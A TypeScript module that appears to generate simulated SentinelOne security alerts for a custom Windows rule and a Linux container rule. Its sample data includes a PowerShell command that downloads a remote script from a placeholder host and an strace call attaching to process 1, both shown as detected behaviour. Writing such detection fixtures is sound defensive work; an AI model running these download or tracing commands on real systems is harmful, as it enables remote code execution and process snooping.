import { byAgent } from './activities.ts';
import type { ActivityDetails } from './activity.ts';
import type { Agent } from './agent.ts';
import type { Random } from './random.ts';

interface Rule {
  type: number;
  origin: string;
  name: string;
  severity: string;
  process: string;
  folder: string;
  arguments: string;
  signer: string;
}

const custom: Rule = {
  type: 3608,
  origin: 'Custom',
  name: 'PowerShell → download',
  severity: 'E_HIGH',
  process: 'powershell.exe',
  folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\',
  arguments: '-NoProfile -Command "iwr https://updates.example.org/a.ps1"',
  signer: 'MICROSOFT WINDOWS',
};

const platform: Rule = {
  type: 3784,
  origin: 'Platform',
  name: 'Process Tracing in Container',
  severity: 'E_LOW',
  process: 'strace',
  folder: '/usr/bin/',
  arguments: '-p 1',
  signer: '',
};

/** An alert of a rule. Alert and rule ids are numbers for custom rules and text for platform rules. */
export function ruleAlert(agent: Agent, ruleId: string, alertId: string, random: Random): ActivityDetails {
  const onLinux = agent.osType === 'linux';
  const rule = onLinux ? platform : custom;
  const user = agent.lastLoggedInUserName;
  const sha1 = random.hex(40);
  return {
    ...byAgent(
      rule.type,
      agent,
      `Alert created for ${rule.process} from ${rule.origin} Rule: ${rule.name}, detected on ${agent.computerName}.`,
      {
        computerName: null,
        externalIp: null,
        agentipv4: agent.networkInterfaces.flatMap(({ inet }) => inet).join(','),
        alertid: onLinux ? alertId : BigInt(alertId),
        datasourcename: 'SentinelOne',
        dnsrequest: 'updates.example.org',
        dstip: '',
        dstport: 0,
        dveventtype: 'BEHAVIORALINDICATORS',
        externalip: agent.externalIp,
        indicatorcategory: 'Execution',
        indicatordescription:
          'A script was run MITRE: Execution {<a href="https://attack.mitre.org/techniques/T1059/">T1059</a>}',
        k8scontainerimage: onLinux ? 'registry.example.org/shop/web:1.4' : '',
        k8scontainername: onLinux ? 'shop_web.1' : '',
        origagentmachinetype: agent.machineType,
        origagentname: agent.computerName,
        origagentosfamily: agent.osType,
        origagentosname: agent.osName,
        origagentuuid: agent.uuid,
        origagentversion: agent.agentVersion,
        physical: agent.networkInterfaces.map(({ physical }) => physical).join(','),
        ruleid: onLinux ? ruleId : BigInt(ruleId),
        rulename: rule.name,
        rulescopeid: BigInt(agent.siteId),
        severity: rule.severity,
        sourcename: 'STAR',
        sourceprocesscommandline: `${rule.process} ${rule.arguments}`,
        sourceprocessfilepath: `${rule.folder}${rule.process}`,
        sourceprocessfilesigneridentity: rule.signer,
        sourceprocessmd5: onLinux ? '' : random.hex(32),
        sourceprocessname: rule.process,
        sourceprocesspid: random.between(400, 60_000),
        sourceprocesssha1: sha1,
        sourceprocesssha256: random.hex(64),
        sourceprocessstoryline: random.hex(16).toUpperCase(),
        sourceprocessusername: onLinux
          ? 'Effective: root, Real: root, Login: root'
          : `CORP\\${user || 'SYSTEM'}`,
        srcip: '',
        srcport: 0,
        // The user who created the rule.
        userName: 'Priya Nair',
      },
    ),
    secondary: sha1,
  };
}
